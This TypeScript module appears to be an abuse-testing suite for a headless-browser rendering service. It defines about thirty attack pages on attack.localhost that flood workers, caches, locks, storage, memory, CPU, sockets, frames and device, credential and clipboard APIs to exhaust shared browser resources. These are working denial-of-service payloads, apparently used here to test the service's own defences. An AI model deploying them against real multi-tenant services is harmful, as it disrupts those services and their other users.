import type { Attack, Attacks, Target } from "./attack.ts";
import { inLanes, send } from "./client.ts";

/** Attacks by pages: the account renders its own site, whose pages flood what the browser keeps for all. */

/** A page that never finishes loading. */
const endless = (script: string, body = "<p>body</p>") =>
  `<!doctype html>${body}<img src=/never><script>${script}</script>`;
/** Runs the statement as often as the page's thread allows, in turns of 2 ms, so that its effects leave the page. */
const flood = (statement: string, setup = "") =>
  endless(
    `let i=0;${setup};setInterval(()=>{const end=performance.now()+2;while(performance.now()<end){i++;try{${statement}}catch{}}},0)`,
  );
const workerCode = "URL.createObjectURL(new Blob(['onmessage=()=>{}']))";
const text12 = () => {
  const words = "lorem ipsum dolor sit amet consectetur ";
  return `<!doctype html><body>${Array.from({ length: 60_000 }, (_, i) => `<div><p>${words.repeat(4)}${i}, <b>and</b></p></div>`).join("")}`;
};

/** A page whose workers run the code. */
const inWorkers = (count: number, code: string) =>
  endless(
    `const code=URL.createObjectURL(new Blob([${JSON.stringify(code)}]));for(let i=0;i<${count};i++)new Worker(code)`,
  );
/** The statement, as often as a worker's thread allows. */
const workerFlood = (statement: string, setup = "") =>
  `let i=0;${setup};setInterval(()=>{const end=performance.now()+2;while(performance.now()<end){i++;try{${statement}}catch{}}},0)`;
/** Starts the work at the same moments in all pages. */
const together = (everyMs: number, work: string) =>
  `setTimeout(function again(){${work};setTimeout(again,${everyMs}-Date.now()%${everyMs})},${everyMs}-Date.now()%${everyMs})`;

interface Flood {
  about: string;
  page: () => string;
  /** Calls at once. */
  lanes?: number;
  path?: string;
  input?: Record<string, unknown>;
  victim?: Attack["victim"];
}

const floods: Record<string, Flood> = {
  "never-loads": {
    about: "40 connections on pages that never load, by both keys",
    page: () => endless(""),
    lanes: 40,
  },
  "shared-workers": {
    about: "pages that start SharedWorkers in a loop",
    page: () => flood("new SharedWorker(code,'w'+Math.random())", `const code=${workerCode}`),
  },
  "long-markdown": {
    about: "pages of 12 MB with main_content_only",
    page: text12,
    path: "/browser/markdown",
    input: { main_content_only: true },
    victim: "markdown",
  },
  "large-pictures": {
    about: "screenshots of 10,752 pixels over 40 canvases",
    page: () =>
      `<!doctype html><body style="margin:0"><script>for(let i=0;i<40;i++){const c=document.createElement("canvas");c.width=c.height=1000;const g=c.getContext("2d");for(let n=0;n<99;n++){g.fillStyle="#"+Math.floor(Math.random()*4096).toString(16).padStart(3,"0");g.fillRect(n*10,0,10,1000)}document.body.append(c)}</script>`,
    path: "/browser/screenshot",
    input: { viewport: { width: 3584, height: 3584 }, device_scale_factor: 3 },
  },
  caches: { about: "caches.open in a loop", page: () => flood("caches.open('c'+i)") },
  workers: {
    about: "new Worker and terminate in a loop",
    page: () => flood("new Worker(code).terminate()", `const code=${workerCode}`),
  },
  locks: {
    about: "navigator.locks.query and request in a loop",
    page: () => flood("navigator.locks.query();navigator.locks.request('l'+i,()=>{})"),
  },
  "service-workers": {
    about: "navigator.serviceWorker.register in a loop",
    page: () => flood("navigator.serviceWorker.register('/s.js?'+i,{scope:'/'+i}).catch(()=>0)"),
  },
  console: {
    about: "console.log of 1 KB in a loop",
    page: () => flood("console.log(text)", "const text='x'.repeat(1000)"),
  },
  estimate: {
    about: "navigator.storage.estimate in a loop",
    page: () => flood("navigator.storage.estimate();navigator.storage.persisted()"),
  },
  dom: {
    about: "a document that grows by 1,000 elements a turn, with a forced layout",
    page: () =>
      flood(
        "document.body.insertAdjacentHTML('beforeend','<p><b>x</b></p>'.repeat(1000));document.body.offsetHeight",
      ),
  },
  frames: {
    about: "150 frames that navigate in a loop",
    page: () =>
      endless(
        "for(let i=0;i<150;i++){const f=document.createElement('iframe');f.src='/blank?'+i;document.body.append(f)}setInterval(()=>{for(const f of document.querySelectorAll('iframe'))f.contentWindow.location='/blank?'+Math.random()},50)",
      ),
  },
  sockets: {
    about: "WebSockets to the page's own site, opened and filled in a loop",
    page: () =>
      endless(
        "const all=[];const text='x'.repeat(60000);setInterval(()=>{for(let i=0;i<20;i++){try{all.push(new WebSocket('ws://'+location.host+'/socket'))}catch{}}for(const s of all){if(s.readyState===1&&s.bufferedAmount<1e6)s.send(text)}if(all.length>200)all.shift().close()},1)",
      ),
  },
  fetches: {
    about: "fetch of the page's own site in a loop, 200 at once",
    page: () =>
      endless(
        "const one=()=>fetch('/blank?'+Math.random(),{cache:'no-store'}).catch(()=>0).then(one);for(let i=0;i<200;i++)one()",
      ),
  },
  history: {
    about: "history.pushState, document.title and location.hash in a loop",
    page: () => flood("document.title='t'+i;history.replaceState(0,'','?'+i);location.hash=i"),
  },
  downloads: {
    about: "downloads started in a loop",
    page: () =>
      flood(
        "a.click()",
        "const a=document.createElement('a');a.download='x';a.href=URL.createObjectURL(new Blob(['x'.repeat(1e6)]))",
      ),
  },
  dialogs: {
    about: "alert, print and window.open in a loop",
    page: () => flood("alert('x'.repeat(100000));print();window.open('/blank')"),
  },
  animations: {
    about: "500 moving, blurred layers, drawn in every frame",
    page: () =>
      endless(
        "for(let i=0;i<500;i++){const d=document.createElement('div');d.style.cssText='position:fixed;width:900px;height:900px;will-change:transform;filter:blur(20px);background:linear-gradient(red,blue)';document.body.append(d)}const draw=()=>{for(const d of document.querySelectorAll('div'))d.style.transform='translate('+Math.random()*900+'px,'+Math.random()*900+'px)';requestAnimationFrame(draw)};draw()",
      ),
  },
  cookies: {
    about: "document.cookie, localStorage and BroadcastChannel in a loop",
    page: () =>
      flood(
        "document.cookie='c'+i+'='+text;localStorage['k'+i%99]=text;channel.postMessage(text)",
        "const text='x'.repeat(3000);const channel=new BroadcastChannel('c')",
      ),
  },
  "blob-urls": {
    about: "Blobs and their URLs in a loop",
    page: () => flood("URL.createObjectURL(new Blob([i+'']))"),
  },
  databases: {
    about: "IndexedDB databases opened and deleted in a loop",
    page: () => flood("indexedDB.open('d'+i);indexedDB.deleteDatabase('d'+(i-1))"),
  },
  "worker-floods": {
    about: "eight workers that flood caches, locks, databases, channels and messages",
    page: () =>
      inWorkers(
        8,
        workerFlood(
          "caches.open('c'+i);navigator.locks.query();navigator.locks.request('l'+i,()=>{});indexedDB.open('d'+i);channel.postMessage(text);postMessage(text)",
          "const text='x'.repeat(3000);const channel=new BroadcastChannel('c')",
        ),
      ),
  },
  "nested-workers": {
    about: "eight workers that start and end workers in a loop",
    page: () =>
      inWorkers(8, workerFlood("new Worker(code).terminate()", `const code=${workerCode}`)),
  },
  "worker-fetches": {
    about: "eight workers that fetch from the page's site, 100 at once, and set timers in a loop",
    page: () =>
      inWorkers(
        8,
        `const one=()=>fetch(origin+'/blank?'+Math.random(),{cache:'no-store'}).catch(()=>0).then(one);for(let i=0;i<100;i++)one();${workerFlood("setTimeout(()=>0,1000)")}`,
      ),
  },
  files: {
    about: "files of the page's own file system made in a loop, also in workers",
    page: () => {
      const make =
        "navigator.storage.getDirectory().then((d)=>d.getFileHandle('f'+i,{create:true})).catch(()=>0)";
      return `${inWorkers(4, workerFlood(make))}<script>${workerFlood(make)}</script>`;
    },
  },
  devices: {
    about: "devices, batteries, wake locks, credentials and fonts asked for in a loop",
    page: () =>
      flood(
        "const n=navigator;n.usb?.getDevices();n.hid?.getDevices();n.serial?.getPorts();n.bluetooth?.getAvailability();n.getBattery?.();n.wakeLock?.request().catch(()=>0);n.credentials?.get({password:true}).catch(()=>0);n.keyboard?.getLayoutMap();n.getInstalledRelatedApps?.();globalThis.queryLocalFonts?.().catch(()=>0);n.gpu?.requestAdapter();n.mediaSession&&(n.mediaSession.playbackState=i%2?'playing':'paused');n.setAppBadge?.(i).catch(()=>0);document.requestStorageAccess?.().catch(()=>0);globalThis.Notification?.requestPermission()",
      ),
  },
  "wait-then-compute": {
    about: "40 connections on pages that only wait, and all compute for 3 s at the same moments",
    page: () =>
      endless(together(15_000, "const end=performance.now()+3000;while(performance.now()<end);")),
    lanes: 40,
  },
  "large-memory": {
    about: "12 connections on pages that each fill 300 MB, so that memory looks full",
    page: () =>
      endless(
        "const kept=[];setInterval(()=>{if(kept.length<30)kept.push(new Uint8Array(1e7).fill(1))},10)",
      ),
    lanes: 12,
  },
  pressed: {
    about: "40 connections on pages of 28 workers that compute, so that slots become few",
    page: () => inWorkers(28, "for(;;);"),
    lanes: 40,
  },
  permissions: {
    about: "permissions, media devices, clipboard and gamepads asked for in a loop",
    page: () =>
      flood(
        "navigator.permissions.query({name:'geolocation'});navigator.mediaDevices?.enumerateDevices();navigator.clipboard?.readText().catch(()=>0);navigator.geolocation.getCurrentPosition(()=>0)",
      ),
  },
};

/** The pages of the attacker's site, by path; each is written once. */
const written = new Map<string, string>();
export function pageAt(path: string): string | undefined {
  const name = path.slice(1);
  const known = written.get(name) ?? floods[name]?.page();
  if (known !== undefined) written.set(name, known);
  return known;
}

function attackOf(name: string, one: Flood): Attack {
  const { about, lanes = 4, path = "/browser/html", input = {}, victim = "render" } = one;
  const run = (target: Target) =>
    inLanes(target, lanes, (lane) =>
      send(target, lane % 4 === 3 ? target.test : target.live, {
        path,
        body: {
          url: `http://attack.localhost:${target.sitePort}/${name}`,
          timeout_ms: target.longMs,
          ...input,
        },
      }),
    );
  return { about, victim, run };
}

export const pageAttacks: Attacks = Object.fromEntries(
  Object.entries(floods).map(([name, one]) => [name, attackOf(name, one)]),
);
